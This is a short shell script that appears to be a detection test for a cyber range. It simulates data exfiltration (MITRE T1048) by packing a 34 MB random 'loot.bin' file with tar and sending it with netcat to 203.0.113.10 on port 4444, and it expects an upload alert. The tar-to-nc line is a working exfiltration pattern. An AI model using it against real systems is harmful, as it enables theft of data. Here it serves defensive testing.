# SPDX-License-Identifier: Apache-2.0
# what: 34 MB sent out with tar and nc
# technique: T1048
# from: ws1
# to: inet
# account: -
# outcome: success
# must: alert upload
. "$RANGE_HERE/item.sh"
head -c 34000000 /dev/urandom >"$HOME/loot.bin"
at inet sh -c "timeout 50 nc -l -p 4444 >/dev/null" &
sleep 0.5
tar -C "$HOME" -c loot.bin | timeout 40 nc -q 1 203.0.113.10 4444
ok=$?
rm "$HOME/loot.bin"
exit $ok
